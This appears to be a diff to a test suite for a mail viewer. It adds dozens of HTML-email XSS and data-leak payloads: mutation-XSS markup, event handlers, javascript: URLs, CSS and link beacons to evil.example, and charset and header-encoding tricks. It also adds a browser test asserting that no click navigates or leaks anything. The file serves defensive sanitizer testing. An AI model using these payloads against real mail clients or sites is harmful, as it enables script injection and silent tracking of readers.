@@ -47,6 +47,25 @@ const bodies: readonly string[] = [
   '<video poster="http://evil.example/v" src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a" autoplay></audio><img srcset="http://evil.example/1x 1x"><picture><source srcset="http://evil.example/p"></picture>',
   '<table background="http://evil.example/t"><tr><td background="http://evil.example/td">x</td></tr></table><body background="http://evil.example/body">',
   `<template>${script}</template><noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
+  // Markup that a parser reads another way the second time: after DOMPurify's, Mutation XSS Cheatsheet's and html5sec's cases.
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${call}"></style></annotation-xml></math>`,
+  `<svg><style>&lt;img src=x onerror="${call}"&gt;</style><desc><template><s><template><style>&lt;img src onerror="${call}"&gt;</style></template></s></template></desc></svg>`,
+  `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${call}'/&gt;&lt;/svg&gt;#x"/><foreignObject><iframe src="javascript:${call}"></iframe></foreignObject><image href="http://evil.example/svgimage"/><filter id=f><feImage href="http://evil.example/fe"/></filter><a xlink:href="javascript:${call}"><text y=20>x</text></a><set attributeName=href to="javascript:${call}"/></svg>`,
+  `<xmp><p title="</xmp>${script}"></xmp><plaintext>${script}`,
+  `<!--><img src=x onerror="${call}">--><!-- --!><img src=x onerror="${call}"><![CDATA[><img src=x onerror="${call}">]]><?xml-stylesheet href="http://evil.example/pi.css"?>`,
+  `<details open ontoggle="${call}">x</details><marquee onstart="${call}">x</marquee><input type=image src="http://evil.example/input" onerror="${call}"><style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${call}">x</b><div popover id=p onbeforetoggle="${call}">x</div><select><button><selectedcontent onclick="${call}">`,
+  // Sent by style sheets alone.
+  `<style>input[value^="s"]{background:url(http://evil.example/css-s)}p:has(b){background:image-set("http://evil.example/set" 1x)}p::after{content:url(http://evil.example/content)}li{list-style:url(http://evil.example/li)}*{cursor:url(http://evil.example/cursor),auto;filter:url(http://evil.example/filter#x);mask:url(http://evil.example/mask);border-image:url(http://evil.example/border);--x:url(http://evil.example/var);shape-outside:url(http://evil.example/shape)}@import "http://evil.example/import.css";@namespace url(http://evil.example/ns);</style><input value=secret><ul><li>x</ul><p><b>x</b></p><p style="background:u\\72l(http://evil.example/escaped);background:url('//evil.example/relative')">x</p>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}"><meta http-equiv=refresh content="0;url=data:text/html,${encodeURIComponent(script)}"><meta http-equiv="Set-Cookie" content="postern_session=x"><meta http-equiv=Link content="<http://evil.example/link>;rel=preload;as=image"><meta http-equiv="x-dns-prefetch-control" content=on><meta name=referrer content=unsafe-url>`,
+  '<link/rel=preload/as=image/href=http://evil.example/preload><link\frel=modulepreload href="http://evil.example/module"><LiNk rel="dns-prefetch preconnect" href=http://evil.example><link rel=prerender href="http://evil.example/prerender"><link rel=icon href="http://evil.example/icon"><link rel=manifest href="http://evil.example/manifest">',
+  `<base href="javascript:/a/-${call}//" target=_top><a href="#">x</a><object type="text/html" data="javascript:${call}"><param name=src value="http://evil.example/param"></object><embed src="data:text/html,${encodeURIComponent(script)}"><applet code=x codebase="http://evil.example/"></applet><fencedframe src="http://evil.example/fenced"></fencedframe><portal src="http://evil.example/portal"></portal>`,
+  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://evil.example/speculation"]}]}</script><script type=importmap>{"imports":{"x":"http://evil.example/x.js"}}</script><script type=module src="http://evil.example/m.js"></script>`,
+  '<img src="x" srcset="http://evil.example/srcset 2x, //evil.example/b 3x" sizes=1px lowsrc="http://evil.example/low" dynsrc="http://evil.example/dyn"><image src="http://evil.example/image"><video><track default src="http://evil.example/track"></video><body background="//evil.example/b"><html manifest="http://evil.example/m"><bgsound src="http://evil.example/s"><layer src="http://evil.example/l"></layer>',
+  '<a href="http://evil.example/ping" ping="http://evil.example/ping" attributionsrc="http://evil.example/attribution">x</a><img attributionsrc="http://evil.example/attribution" src="data:,">',
+  `<img src="cid:x" onerror="${call}"><img src=cid:x/onerror=${call}><a href="cid:x">x</a>`,
   `<x-y onclick="${call}" style="position:fixed;inset:0;background:red">all over the page</x-y>`,
 ];
 
@@ -64,6 +83,20 @@ const hostile: readonly KeepOptions[] = [
     text: `Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`,
   })),
   ...bodies.slice(0, 3).map((html): KeepOptions => ({ text: `Subject: text\r\n\r\n${html}\r\n` })),
+  // Character sets in which markup looks like something else.
+  {
+    text: `Subject: charset\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-${call}+ADw-/script+AD4-\r\n`,
+  },
+  {
+    text: `Subject: charset\r\nContent-Type: text/html; charset=iso-2022-jp\r\n\r\n<a title="\x1b$B">\x1b(B<img src=x onerror="${call}">\r\n`,
+  },
+  {
+    text: `Subject: charset\r\nContent-Type: text/html; charset="x\\"><script>"\r\n\r\n\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0${script}\r\n`,
+  },
+  // Fields: a name that is markup, words that decode to markup, continued and encoded parameters (RFC 2231).
+  {
+    text: `X-<img/src=x/onerror=window.top.owned=1>: ${script}\r\nSubject: =?utf-8?B?${Buffer.from(breakouts[1] ?? '').toString('base64')}?=\r\nFrom: "${script}" <x@evil.example>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/x; name*0*=utf-8''%3Cimg%20src=x%20; name*1=onerror=window.top.owned=1; name*2*=%3E.html\r\nContent-Disposition: attachment; filename*=utf-8''%22%3E%3Cscript%3Ewindow.top.owned%3D1%3C%2Fscript%3E%E2%80%AElmth.html\r\n\r\n${script}\r\n--b--\r\n`,
+  },
   {
     text: `Subject: names\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=x"><script>\r\nContent-Disposition: attachment; filename="<img src=x onerror=window.top.owned=1>.html"\r\n\r\n${script}\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename=x.svg\r\nContent-ID: <c>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>\r\n--b--\r\n`,
   },
@@ -199,6 +232,39 @@ test(
     assert.equal(trap.seen.filter((line) => line.startsWith('GET')).length, asked.length);
   },
 );
+
+test('a click on what a mail shows leads nowhere', { timeout: 120_000 }, async (t) => {
+  const opened = await openBrowser(t);
+  if (!opened) return;
+  const { site, trap, page, browser } = opened;
+  const before = trap.seen.length;
+  const wide = 'style="display:block;height:30px;width:300px"';
+  const name = await keep(site, {
+    text: `Subject: x\r\nContent-Type: text/html\r\n\r\n${['_self', '_top', '_blank', '_parent', 'x'].map((target) => `<a ${wide} target=${target} href="http://evil.example/${target}" ping="http://evil.example/ping">a</a>`).join('')}<a ${wide} target=_top href="javascript:${call}">a</a><a ${wide} target=_top href="/logout">a</a><a ${wide} download href="http://evil.example/download">a</a><form action="http://evil.example/form" method=post target=_top><button ${wide}>b</button><button ${wide} formaction="javascript:${call}">b</button></form>\r\n`,
+  });
+  await page.goto(addressOf(site, name));
+  const at = page.url();
+  await page.getByText('HTML', { exact: true }).click();
+  const things = page.frameLocator('iframe').locator('a, button');
+  await things.last().waitFor();
+  const count = await things.count();
+  assert.equal(count, 10);
+  for (let i = 0; i < count; i++) {
+    await things.nth(i).click({ force: true, timeout: 5_000, noWaitAfter: true });
+    await page.waitForTimeout(100);
+    if (page.frames().some((frame) => frame.url().startsWith('chrome-error:'))) {
+      // The frame was to go elsewhere, and may not: what it showed is shown anew for the next.
+      await page.goto(addressOf(site, name));
+      await page.getByText('HTML', { exact: true }).click();
+      await things.last().waitFor();
+    }
+  }
+  await page.waitForTimeout(300);
+  assert.equal(page.url(), at);
+  assert.equal(browser.contexts().flatMap((context) => context.pages()).length, 1);
+  assert.equal(await page.evaluate('window.owned'), undefined);
+  assert.deepEqual(trap.seen.slice(before), []);
+});
 
 /** Two by two, red. */
 const png = 'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg==';
